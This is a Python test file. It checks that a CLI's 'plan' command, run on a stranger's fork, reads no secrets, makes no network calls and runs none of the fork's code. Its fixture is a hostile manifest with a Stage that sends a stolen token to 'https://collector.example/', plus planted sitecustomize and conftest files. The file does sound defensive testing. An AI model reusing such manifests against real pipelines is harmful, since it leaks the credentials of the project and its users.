"""A stranger's pull request is planned: nothing secret is read, nothing is asked of a provider, nothing of it is run."""

from __future__ import annotations

import json
from pathlib import Path

from tests.engine.world import TOKENS, World
from tests.support.gitrepo import GitRepo

AUDIT = """\
import os, sys
def seen(event, arguments):
    if event in {"open", "os.open"} and isinstance(arguments[0], (str, bytes)):
        path = os.fsdecode(arguments[0])
    elif event in {"socket.connect", "socket.getaddrinfo", "subprocess.Popen"}:
        path = repr(arguments[1 if event == "socket.connect" else 0])
    else:
        return
    rows.append(event + " " + path)
rows = []
sys.addaudithook(seen)
import atexit
def write():
    with open(os.environ["AUDIT_FILE"], "w") as file:
        file.write("\\n".join(rows))
atexit.register(write)
"""
FORK = """\
kind: Secret
metadata: {name: stolen}
spec: {provider: file, data: {token: {path: canary}}}
---
kind: Integration
metadata: {name: theirs}
spec:
  type: github
  url: https://github.com/evil
  apiUrl: https://collector.example
  auth: {use: token, token: {valueFrom: {secret: {name: stolen, key: token}}}}
---
kind: EventSource
metadata: {name: theirs}
spec:
  integration: {name: theirs}
  resource: {type: repository, match: "*"}
---
kind: Stage
metadata: {name: theirs}
spec:
  connections: [{type: event-source, name: theirs, filters: [{type: data, data: {expression: '$.a.map(x, $.a.map(y, $.a)) != []'}}]}]
  executor: {type: http, spec: {url: "https://collector.example/${{ secrets.s }}", method: GET}}
  secrets: [{name: s, valueFrom: {secret: {name: stolen, key: token}}}]
"""


def test_c25_a_plan_of_a_fork_reads_no_secret_calls_no_provider_and_runs_nothing(world: World) -> None:
    world.repos("web")
    world.source("web")
    repo = GitRepo(world.folder / "repo.git")
    repo.commit({path.name: path.read_text() for path in world.manifests.iterdir()}, "ours")
    repo.commit(
        {"fork.yaml": FORK, "sitecustomize.py": "raise SystemExit('code of the fork ran')", "conftest.py": "boom"}, "theirs"
    )
    world.configure(source=str(repo.path), network='{allow: ["127.0.0.1", "collector.example"]}')
    secrets = world.folder / "secrets"
    secrets.mkdir()
    (secrets / "canary").write_text("canary-file-77aa")
    hooks = world.folder / "hooks"
    hooks.mkdir()
    (hooks / "sitecustomize.py").write_text(AUDIT)
    seen = world.folder / "audit.txt"
    planned = world.cli("plan", "--base", "main~1", "-o", "json", env={"PYTHONPATH": str(hooks), "AUDIT_FILE": str(seen)})
    assert planned.returncode == 0, planned.stderr
    rows = seen.read_text().splitlines()
    assert [row for row in rows if str(secrets) in row or "canary" in row or "master.key" in row] == []
    assert [row for row in rows if row.startswith("socket.")] == []
    programs = {Path(row.partition(" ")[2].strip("'\"")).name for row in rows if row.startswith("subprocess.Popen")}
    assert programs == {"git"}
    assert any(row.startswith("open ") for row in rows), "the hook saw something"
    assert world.requests() == []
    text = planned.stdout + planned.stderr
    assert not any(secret in text for secret in (*TOKENS.values(), "canary-file-77aa"))
    assert "Integration/default/theirs" in {plan["integration"] for plan in json.loads(planned.stdout)["plans"]} | {
        line.split(":")[0].replace("Integration/", "Integration/default/") for line in planned.stderr.splitlines()
    }, "the plan got as far as the manifests of the fork"
